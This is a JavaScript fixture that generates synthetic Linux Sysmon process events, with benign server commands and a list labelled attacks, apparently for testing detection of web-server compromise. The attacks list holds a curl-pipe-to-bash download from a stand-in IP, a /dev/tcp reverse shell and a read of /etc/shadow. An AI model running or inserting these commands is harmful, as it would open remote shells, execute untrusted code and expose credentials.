/** Sysmon-for-Linux process events of a few servers. */
const hosts = ['web-03', 'web-04', 'db-01', 'ci-02'];

const process = (time, pick, Image, CommandLine, ParentImage = '/usr/bin/bash', User = 'deploy') => ({
  Channel: 'Linux-Sysmon/Operational',
  Provider_Name: 'Linux-Sysmon',
  EventID: 1,
  Computer: pick(hosts),
  UtcTime: time.toISOString().replace('T', ' ').slice(0, 23),
  Image,
  CommandLine,
  ParentImage,
  User,
  CurrentDirectory: '/srv/app',
  ProcessId: pick.number(300, 30000),
});

export const ordinary = [
  (time, pick) => process(time, pick, '/usr/bin/node', 'node server.js', '/usr/lib/systemd/systemd'),
  (time, pick) => process(time, pick, '/usr/bin/git', 'git fetch --all'),
  (time, pick) => process(time, pick, '/usr/bin/pg_dump', 'pg_dump -Fc shop', '/usr/sbin/cron', 'postgres'),
  (time, pick) => process(time, pick, '/usr/bin/ls', 'ls -la /srv/app'),
];

export const attacks = [
  (time, pick) => process(time, pick, '/usr/bin/id', 'id', '/usr/sbin/apache2', 'www-data'),
  (time, pick) => process(time, pick, '/usr/bin/sh', 'sh -c curl -fsSL http://203.0.113.8/i.sh | bash', '/usr/sbin/apache2', 'www-data'),
  (time, pick) => process(time, pick, '/usr/bin/bash', 'bash -i >& /dev/tcp/203.0.113.8/4444 0>&1', '/usr/sbin/apache2', 'www-data'),
  (time, pick) => process(time, pick, '/usr/bin/cat', 'cat /etc/shadow', '/usr/bin/bash', 'root'),
];
